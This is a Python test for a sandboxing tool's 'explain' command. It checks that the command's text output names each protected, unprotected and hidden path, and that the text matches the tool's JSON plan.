def test_explain_text_lists_protected_and_hidden_paths(s):
    # explain's text names every carve-out the record has (issue 42): each protected and hidden path
    # that exists with how it is held, the absent ones with why, and each --unprotect.
    need_runner("bwrap")
    git(s, s.ws, "init", "-q")
    os.mkdir(s.p("ws", ".vscode"))
    secret = s.p("outside", "secret")
    open(secret, "w").close()
    r = dsh(["explain", "--mode", "workspace-write", "--root", s.ws, "--runner", "bwrap", "--deny-read", secret,
             "--unprotect", s.p("ws", ".idea"), "--", "true"], s, cwd=s.ws, report=False)
    assert r.rc == 0, r
    lines = r.out.splitlines()

    def block(label):
        at = [i for i, l in enumerate(lines) if l.startswith(label)]
        assert len(at) == 1, (label, r.out)
        out = [lines[at[0]][13:]]
        for l in lines[at[0] + 1:]:
            if not l.startswith(" " * 13):
                break
            out.append(l[13:])
        return out

    protected = block("protected:")
    for path, how in ((".git", "mount-point"), (".git/hooks", "read-only-bind"), (".git/config", "read-only-bind"),
                      (".vscode", "read-only-bind")):
        assert any(l.startswith('"%s" (default, ' % s.p("ws", path)) and l.endswith(", %s)" % how)
                   for l in protected), (path, protected)
    absent = [l for l in protected if l.endswith(": " + ABSENT_TEXT)]
    assert len(absent) == 1 and '"%s"' % s.p("ws", ".claude") in absent[0], protected
    assert block("unprotected:") == ['"%s" (--unprotect)' % s.p("ws", ".idea")], r.out
    hidden = block("hidden:")
    assert hidden == ['"%s" (flag, secret, dev-null-bind)' % secret], hidden
    # What --json says, the text says: every protected path is named.
    plan = json.loads(dsh(["explain", "--json", "--mode", "workspace-write", "--root", s.ws, "--runner", "bwrap",
                           "--deny-read", secret, "--unprotect", s.p("ws", ".idea"), "--", "true"], s, cwd=s.ws,
                          report=False).out)
    for e in plan["confinement"]["protectedPaths"]:
        assert '"%s"' % e["path"] in "\n".join(protected), (e, protected)


if __name__ == "__main__":
    main()
